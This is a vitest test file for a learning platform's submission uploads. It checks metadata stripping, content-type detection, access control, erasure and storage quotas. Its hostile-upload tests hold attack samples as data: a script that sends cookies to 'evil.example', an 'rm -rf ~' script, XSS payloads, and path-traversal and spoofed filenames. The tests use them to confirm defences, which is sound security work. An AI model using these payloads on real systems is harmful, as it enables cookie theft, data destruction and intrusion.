import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { type Endpoint, endpoints } from '@laurel/api';
import { zipFiles } from '@laurel/credential';
import PDFDocument from 'pdfkit';
import pg from 'pg';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { callApi, createSignedInPerson, type TestPerson } from '../../../testing/people.ts';
import { joinAs, startLearningWorld } from '../testing/learning-world.ts';
import { createTask, startWork, type Worker } from '../testing/work-world.ts';

const world = await startLearningWorld();
const { testApp, createSchool } = world;
afterAll(() => testApp.stop());
const school = await createSchool();
const task = await createTask(world, school, { assignment: { maxFiles: 20 } });
const canary = 'canary-of-the-camera';
const signature = '1 0 obj <</Type /Catalog /V <</Type /Sig /ByteRange [0 1 2 3]>>>> endobj\n';
const table = 'xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer <</Root 1 0 R /Size 2>>\n';
const signed = `%PDF-1.7\n${signature}${table}startxref\n${9 + signature.length}\n%%EOF\n`;

async function fetchFile(address: string, as?: Pick<TestPerson, 'cookie'>) {
  const headers = as ? { cookie: as.cookie } : undefined;
  const response = await testApp.app.fetch(new Request(testApp.origin + address, headers ? { headers } : {}));
  return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
}
const ownAddress = (submissionId: string, fileId: string) => `/api/v1/me/submissions/${submissionId}/files/${fileId}`;
const staffAddress = (submissionId: string, fileId: string, organisationId = school.organisationId) =>
  `/api/v1/organisations/${organisationId}/submissions/${submissionId}/files/${fileId}`;

/** Sends a file into the draft and answers it as it is kept. */
async function keep(worker: Worker, bytes: Uint8Array | string, name: string) {
  const { status, body } = await worker.send(bytes, { name });
  const file = body.draft?.files.at(-1);
  const kept = file && (await fetchFile(ownAddress(body.draft?.id ?? '', file.id), worker.person));
  return { status, body, file, kept };
}

describe('E11: place, camera and notes are left behind on the way in', async () => {
  const worker = await startWork(world, task);
  const camera = () =>
    sharp({ create: { width: 64, height: 32, channels: 3, background: '#3366cc' } })
      .withExif({
        IFD0: { Make: canary, ImageDescription: canary },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '0/1 7/1 0/1' },
      })
      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><place>${canary}</place></x:xmpmeta>`)
      .withMetadata({ orientation: 6 });

  it.each(['jpeg', 'png', 'webp'] as const)('of a picture as %s', async (format) => {
    const taken = await camera().toFormat(format).toBuffer();
    expect(taken.includes(canary)).toBe(true);
    if (format === 'png') expect(taken.includes('eXIf')).toBe(true);
    const { status, file, kept } = await keep(worker, taken, `photo.${format}`);
    expect([status, file?.mediaType]).toEqual([201, 'image/png']);
    const metadata = await sharp(kept?.bytes).metadata();
    expect(metadata).toMatchObject({ format: 'png', width: 32, height: 64 });
    for (const note of ['exif', 'xmp', 'iptc', 'icc', 'comments'] as const) expect(metadata[note]).toBeUndefined();
    expect(kept?.bytes.includes(canary)).toBe(false);
    expect(file?.notes.join()).toContain('place, camera and notes in it are gone');
  });

  it('a HEIC picture is refused with the way to mend it', async () => {
    const heic = Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      Buffer.from('ftypheic\0\0\0\0mif1heic'),
      Buffer.alloc(200),
    ]);
    const { status, body } = await worker.send(heic, { name: 'IMG_0001.HEIC' });
    expect([status, body.code]).toEqual([415, 'unsupported-media-type']);
    expect(body.detail).toContain('Save it as JPEG');
  });

  const pdfOf = async (...options: ConstructorParameters<typeof PDFDocument>) => {
    const pdf = new PDFDocument(...options);
    const chunks: Buffer[] = [];
    pdf.on('data', (chunk: Buffer) => chunks.push(chunk));
    const ended = new Promise((resolve) => pdf.on('end', resolve));
    pdf.image(await camera().jpeg().toBuffer(), { width: 100 }).text('Words');
    pdf.end();
    await ended;
    return Buffer.concat(chunks);
  };

  it('of a PDF and the pictures in it; what one sees stays', async () => {
    const bytes = await pdfOf({ info: { Author: 'Jane Canary' } });
    expect([bytes.includes('Jane Canary'), bytes.includes(canary)]).toEqual([true, true]);
    const { file, kept } = await keep(worker, bytes, 'essay.pdf');
    expect([kept?.bytes.includes('Jane Canary'), kept?.bytes.includes(canary)]).toEqual([false, false]);
    expect(file?.notes).toEqual([expect.stringContaining('What one sees in it stays.')]);
    expect(file?.bytes).toBe(kept?.bytes.length);
    expect(kept?.bytes.toString('latin1')).toMatch(/^%PDF-1\.3\n.*\/Count 1.*%%EOF\n$/s);
  });

  it.each([
    ['locked', () => pdfOf({ userPassword: 'secret', info: { Author: 'Jane' } }), 'The PDF is locked'],
    ['signed', async () => Buffer.from(signed, 'latin1'), 'The PDF is signed'],
    ['damaged', async () => Buffer.from('%PDF-1.7\n/Author (Jane Canary)'), 'It names its author: “Jane Canary”.'],
  ])('a %s PDF stays as it is, and its author is told so', async (_, make, said) => {
    const bytes = await make();
    const { file, kept } = await keep(worker, bytes, 'essay.pdf');
    expect(kept?.bytes.equals(bytes)).toBe(true);
    expect(file?.notes.join(' ')).toContain('is kept as it is');
    expect(file?.notes.join(' ')).toContain(said);
  });

  it('an office document is known by what is in it, and its author told what it says of them', async () => {
    const properties = '<p><dc:creator>Jane Canary</dc:creator><cp:lastModifiedBy>Joe</cp:lastModifiedBy></p>';
    const docx = await zipFiles({
      files: [
        { name: '[Content_Types].xml', content: '<Types/>' },
        { name: 'word/document.xml', content: '<w/>' },
        { name: 'docProps/core.xml', content: properties },
      ],
      modified: new Date('2026-11-26T00:00:00Z'),
    });
    const { file } = await keep(worker, docx, 'essay.docx');
    expect(file?.mediaType).toContain('wordprocessingml');
    expect(file?.notes[1]).toBe('It names who wrote it: “Jane Canary”, “Joe”.');
  });
});

describe('E07: what a file is, its content says', async () => {
  const worker = await startWork(world, task);
  it.each([
    ['a program', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')],
    ['an archive of another kind', Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')],
    ['a GIF', Buffer.from('GIF89a\x01\0\x01\0\x80\0\0', 'latin1')],
    [
      'Matroska that is not WebM',
      Buffer.from('1a45dfa3a34286810142f7810142f2810442f381084282886d6174726f736b61', 'hex'),
    ],
    ['a ZIP that is cut short', Buffer.from('PK\x03\x04 and no more', 'latin1')],
    ['text in another encoding', Buffer.from('Gr\xfc\xdfe', 'latin1')],
    ['nothing', Buffer.alloc(0)],
  ])('%s is refused whatever its name, and nothing is kept', async (_, bytes) => {
    const { status, body } = await worker.send(bytes, { name: 'work.pdf' });
    expect([status, body.code]).toEqual([415, 'unsupported-media-type']);
    expect((await worker.get()).draft?.files ?? []).toEqual([]);
  });

  it('only kinds that are asked for are taken, and no more than are asked for', async () => {
    const narrow = await startWork(
      world,
      await createTask(world, school, { assignment: { fileKinds: ['text'], maxFiles: 1 } }),
    );
    const refused = await narrow.send('%PDF-1.7\n', { name: 'a.pdf' });
    expect(refused.body.detail).toBe('Nothing was kept. This is a PDF. What is accepted here: a text in UTF-8.');
    expect((await narrow.send('x'.repeat(2_097_153), { name: 'a.txt' })).status).toBe(413);
    const sent = await Promise.all(Array.from({ length: 8 }, (_, n) => narrow.send('text', { name: `${n}.txt` })));
    expect(sent.map(({ status }) => status).sort()).toEqual([201, ...Array(7).fill(409)]);
    expect((await narrow.get()).draft?.files).toHaveLength(1);
  });
});

describe('J02: what a learner handed in, nobody reads but its author and those who review it', async () => {
  const author = await startWork(world, task);
  await author.save({ body: 'secret-of-the-author' });
  await author.send('secret-of-the-author', { name: 'secret.txt' });
  const submission = (await author.handIn()).body.handedIn[0];
  const [submissionId, fileId] = [submission?.id ?? '', submission?.files[0]?.id ?? ''];
  const colleague = await startWork(world, task);
  const own = (await colleague.save({ body: 'Mine' })).body.draft?.id ?? '';
  const elsewhere = await createSchool();
  const others = {
    nobody: undefined,
    'a stranger': await createSignedInPerson(testApp),
    'a fellow learner': colleague.person,
    'a viewer of the organisation': await joinAs(world, school, 'viewer'),
    'an issuer of the organisation': await joinAs(world, school, 'issuer'),
    'the owner of another organisation': elsewhere.owner,
  };

  it.each(Object.entries(others))('%s, by whichever address', async (_, as) => {
    const addresses = [
      ownAddress(submissionId, fileId),
      ownAddress(own, fileId),
      staffAddress(submissionId, fileId),
      staffAddress(submissionId, fileId, elsewhere.organisationId),
      staffAddress(own, fileId),
      `/files/${fileId}`,
      `/files/${submissionId}`,
      `/api/v1/organisations/${school.organisationId}/submissions/${submissionId}`,
      `/api/v1/organisations/${elsewhere.organisationId}/submissions/${submissionId}`,
      `/api/v1/me/enrolments/${author.enrolmentId}/lessons/${task.lessonId}/work`,
      `/api/v1/organisations/${school.organisationId}/programmes/${task.programmeId}/lessons/${task.lessonId}/submissions`,
      `/api/v1/organisations/${school.organisationId}/programmes/${task.programmeId}/lessons/${task.lessonId}/similarities`,
    ];
    for (const address of addresses) {
      const { status, bytes } = await fetchFile(address, as);
      expect([401, 403, 404], address).toContain(status);
      expect(bytes.includes('secret-of-the-author'), address).toBe(false);
    }
  });

  it('its author and a reviewer do, and no cache keeps it', async () => {
    const reviewer = await joinAs(world, school, 'reviewer');
    const asked = [
      await fetchFile(ownAddress(submissionId, fileId), author.person),
      await fetchFile(staffAddress(submissionId, fileId), reviewer),
    ];
    for (const { status, headers, bytes } of asked) {
      expect([status, bytes.toString()]).toEqual([200, 'secret-of-the-author']);
      expect(headers.get('cache-control')).toBe('private, no-store');
      expect(headers.get('etag')).toBeNull();
    }
    expect((await fetchFile(`/files/${fileId}`, author.person)).status).toBe(404);
  });

  it('F02: a query that filters nothing sees it in the scope of its author or the organisation alone', async () => {
    const client = new pg.Client({ connectionString: testApp.databaseUrl, options: '-c role=laurel_app' });
    await client.connect();
    const seen = async (organisation: string, person: string) => {
      const settings = "select set_config('laurel.organisation', $1, false), set_config('laurel.person', $2, false)";
      await client.query(settings, [organisation, person]);
      const rows = async (table: string) => (await client.query(`select from ${table}`)).rowCount ?? 0;
      const files = (await client.query('select from file.file where is_private')).rowCount ?? 0;
      return [await rows('learning.submission'), await rows('learning.submission_file'), files].map(
        (count) => count > 0,
      );
    };
    expect(await seen('', '')).toEqual([false, false, false]);
    expect(await seen(elsewhere.organisationId, elsewhere.owner.personId)).toEqual([false, false, false]);
    expect(await seen('', others['a stranger'].personId)).toEqual([false, false, false]);
    expect(await seen('', author.person.personId)).toEqual([true, false, false]);
    expect(await seen(school.organisationId, '')).toEqual([true, true, true]);
    const own = await client.query('select distinct person_id from learning.submission');
    expect(own.rowCount).toBeGreaterThan(1);
    await client.end();
  });

  it('a fellow learner writes to nothing of it either', async () => {
    const params = { enrolmentId: author.enrolmentId, lessonId: task.lessonId, submissionId, fileId };
    const doors: readonly (Endpoint & { body?: object })[] = [endpoints.removeSubmissionFile, endpoints.handInWork];
    for (const endpoint of doors) {
      expect((await callApi(testApp, endpoint, { as: colleague.person, params })).status, endpoint.id).toBe(404);
    }
    const body = { body: 'Taken over' };
    expect((await callApi(testApp, endpoints.saveDraft, { as: colleague.person, params, body })).status).toBe(404);
    expect((await author.get()).handedIn[0]?.body).toBe('secret-of-the-author');
  });
});

describe('J07: what is handed in attacks nobody who opens it', async () => {
  const script = '<script>fetch("//evil.example?"+document.cookie)</script>';
  const worker = await startWork(world, task);

  it.each([
    ['a page', `<!doctype html>${script}`, 'index.html', 'index.html.txt'],
    ['a drawing', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, 'logo.svg', 'logo.svg.txt'],
    ['a script', 'rm -rf ~', 'install.sh', 'install.sh.txt'],
    ['a page behind a picture’s name', `<!doctype html>${script}`, 'photo.png', 'photo.png.txt'],
    ['a name that hides its ending', 'x', 'invoice\u202Egnp.exe', 'invoice_gnp.exe.txt'],
    ['a name of markup', 'x', `"><img src=x onerror=alert(1)>.txt`, '"__img src=x onerror=alert(1)_.txt'],
    ['a name that climbs', 'x', '../../etc/passwd', '__.._etc_passwd.txt'],
  ])('%s is saved as plain text under a harmless name, in a sandbox', async (_, text, name, savedAs) => {
    const { kept, file } = await keep(worker, text, name);
    expect(file).toMatchObject({ name, mediaType: 'text/plain' });
    const headers = Object.fromEntries(kept?.headers ?? []);
    expect(headers).toMatchObject({
      'content-type': 'text/plain; charset=utf-8',
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
      'referrer-policy': expect.stringMatching(/no-referrer|strict-origin/),
      'x-frame-options': 'DENY',
    });
    expect(headers['content-security-policy']).toContain("default-src 'none'");
    expect(headers['content-security-policy']).toContain('sandbox');
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="[^"]*"; filename\*=UTF-8''[\w%.!#$&+^`|~-]+$/,
    );
    const saved = decodeURIComponent(headers['content-disposition']?.split("UTF-8''")[1] ?? '');
    expect(saved).toBe(savedAs);
  });

  it('what hides behind a picture is gone', async () => {
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
      .png()
      .toBuffer();
    const { kept } = await keep(worker, Buffer.concat([png, Buffer.from(`${script}PK\x03\x04`)]), 'polyglot.png');
    expect(kept?.bytes.includes('script')).toBe(false);
  });

  it('words, reflections and links are shown without anything that runs', async () => {
    const portfolio = await startWork(world, await createTask(world, school, { kind: 'portfolio' }));
    const evil = `${script}\n\n[x](javascript:alert(1)) <img src=x onerror=alert(1)> ![y](https://evil.example/p.png)`;
    const id = crypto.randomUUID();
    const pieces = [{ id, title: script, reflection: evil }];
    const { body } = await portfolio.save({
      body: evil,
      pieces,
      links: [{ pieceId: id, url: 'https://work.example' }],
    });
    for (const html of [body.draft?.bodyHtml, body.draft?.pieces[0]?.reflectionHtml]) {
      expect(html).not.toMatch(/<script|<img|href="javascript/);
    }
    for (const url of ['javascript:alert(1)', 'data:text/html,x', 'http://evil.example', 'file:///etc/passwd']) {
      expect((await portfolio.save({ body: '', links: [{ url }] })).status, url).toBe(400);
    }
  });
});

it('L05: erasing a learner takes what they handed in along, its files and their bytes', async () => {
  const worker = await startWork(world, task);
  await worker.save({ body: 'Zqwork of mine' });
  await worker.send('Zqwork of mine', { name: 'a.txt' });
  const { body } = await worker.handIn();
  const fileId = body.handedIn[0]?.files[0]?.id ?? '';
  const exported = await callApi(testApp, endpoints.exportMe, { as: worker.person });
  expect(JSON.stringify(exported.body)).toContain('Zqwork of mine');
  const erasing = { email: worker.person.email, password: worker.person.password, copies: 'stay-valid' } as const;
  expect((await callApi(testApp, endpoints.eraseMe, { as: worker.person, body: erasing })).status).toBe(202);
  expect(await world.query('select from file.file where id = $1', [fileId])).toEqual([]);
  expect(await world.query('select from learning.submission where person_id = $1', [worker.person.personId])).toEqual(
    [],
  );
  const jobs = await world.query<{ payload: { fileIds: string[] } }>(
    `select j.payload from graphile_worker._private_jobs j join graphile_worker._private_tasks t on t.id = j.task_id
      where t.identifier = 'remove-file-bytes'`,
  );
  expect(jobs.flatMap(({ payload }) => payload.fileIds)).toContain(fileId);
});

it('E04 what learners hand in has a measure, theirs and their organisation’s, and one byte more leaves nothing behind', async () => {
  const own = await createSchool();
  const narrow = await createTask(world, own, { assignment: { maxFiles: 20 } });
  const [worker, other] = [await startWork(world, narrow), await startWork(world, narrow)];
  const sent = await worker.send('a', { name: 'first.md' });
  const fileId = sent.body.draft?.files[0]?.id ?? '';
  const fill = async (bytes: number) => {
    await world.query('alter table file.file no force row level security');
    await world.query('update file.file set bytes = $2 where id = $1', [fileId, bytes]);
    await world.query('alter table file.file force row level security');
  };
  const kept = async () =>
    (await readdir(path.join(testApp.dataDirectory, 'files'), { recursive: true })).filter((name) =>
      /[0-9a-f]{12}$/.test(name),
    ).length;
  for (const [filled, person] of [
    [2 * 1024 ** 3 - 5, worker],
    // The five bytes that the first could add are there too.
    [100 * 1024 ** 3 - 10, other],
  ] as const) {
    await fill(filled);
    const before = await kept();
    expect(await person.send('sixsix', { name: 'b.md' })).toMatchObject({ status: 413, body: { code: 'too-large' } });
    expect(await kept()).toBe(before);
    expect((await person.send('five5', { name: 'c.md' })).status).toBe(201);
  }
});
